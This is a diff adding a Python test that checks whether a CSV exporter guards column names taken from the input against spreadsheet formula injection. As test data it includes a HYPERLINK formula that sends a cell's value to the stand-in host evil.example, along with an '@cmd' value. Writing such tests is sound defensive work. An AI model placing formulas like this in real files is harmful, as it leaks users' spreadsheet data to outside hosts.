@@ -278,6 +278,15 @@ def test_csv_export_guards_hostile_cells(tmp_path):
         assert row[FIELDS.index(name)] == "'" + value, name
 
 
+def test_csv_export_guards_the_column_names_taken_from_the_input(tmp_path):
+    path = tmp_path / "out.csv"
+    names = ("url", '=HYPERLINK("http://evil.example/?"&A2)', "@cmd")
+    with open_exporter(str(path), "csv", input_names=names) as exporter:
+        exporter.write(make_result(0, input_row=("u", "x", "y")))
+    header, _ = read_csv(path)
+    assert header[:3] == ["url", "'" + names[1], "'@cmd"]
+
+
 @pytest.mark.parametrize("fmt", ["json", "jsonl"])
 def test_json_exports_keep_exact_values(tmp_path, fmt):
     path = tmp_path / f"out.{fmt}"
